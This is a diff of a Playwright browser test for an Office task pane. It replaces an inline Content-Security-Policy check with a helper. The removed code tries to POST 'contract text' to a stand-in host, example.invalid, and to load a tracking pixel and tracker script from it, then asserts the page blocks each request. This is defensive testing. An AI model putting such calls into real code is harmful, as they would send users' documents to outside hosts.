@@ -7,7 +7,7 @@
 import * as fs from "fs";
 import * as path from "path";
 import type { Browser } from "playwright-core";
-import { ARTIFACTS, AXE_FILE, DIST_LOCAL, launch, openRecordedPage, requireBuild, runAxe, serve, waitForPane, type Served } from "./harness";
+import { ARTIFACTS, AXE_FILE, DIST_LOCAL, expectCspBlocked, launch, openRecordedPage, requireBuild, runAxe, serve, waitForPane, type Served } from "./harness";
 
 jest.setTimeout(120_000);
 
@@ -60,44 +60,7 @@ describe("production pane in Chromium, outside Office", () => {
     try {
       await rec.page.goto(`${server.origin}/taskpane.html`);
       await waitForPane(rec.page);
-      const result = await rec.page.evaluate(async () => {
-        const violations: Array<{ blockedURI: string; directive: string }> = [];
-        document.addEventListener("securitypolicyviolation", (e) => violations.push({ blockedURI: e.blockedURI, directive: e.effectiveDirective }));
-        let fetchError = "";
-        try {
-          await fetch("http://example.invalid/collect", { method: "POST", body: "contract text" });
-        } catch (e) {
-          fetchError = String(e);
-        }
-        const img = new Image();
-        const imgDone = new Promise((resolve) => {
-          img.onerror = resolve;
-          img.onload = resolve;
-        });
-        img.src = "https://example.invalid/pixel.png";
-        await imgDone;
-        const script = document.createElement("script");
-        script.src = "https://example.invalid/tracker.js";
-        const scriptDone = new Promise((resolve) => {
-          script.onerror = resolve;
-          script.onload = resolve;
-        });
-        document.head.appendChild(script);
-        await scriptDone;
-        await new Promise((resolve) => setTimeout(resolve, 200));
-        return { violations, fetchError };
-      });
-      expect(result.fetchError).toMatch(/Failed to fetch|TypeError/);
-      const byDirective = Object.fromEntries(result.violations.map((v) => [v.directive, v.blockedURI]));
-      expect(byDirective["connect-src"]).toMatch(/^http:\/\/example\.invalid/);
-      expect(byDirective["img-src"]).toMatch(/^https:\/\/example\.invalid/);
-      expect(byDirective["script-src-elem"] ?? byDirective["script-src"]).toMatch(/^https:\/\/example\.invalid/);
-      // Blocked by the page itself: Chromium refused them for the CSP, so none reached the network
-      // (the test's own abort net for outside requests saw nothing).
-      await rec.page.waitForTimeout(200);
-      expect(rec.outside).toEqual([]);
-      expect([...rec.attempted].sort()).toEqual(["https://example.invalid/pixel.png", "https://example.invalid/tracker.js"]);
-      expect([...rec.cspBlocked].sort()).toEqual(["https://example.invalid/pixel.png", "https://example.invalid/tracker.js"]);
+      await expectCspBlocked(rec);
     } finally {
       await rec.context.close();
     }
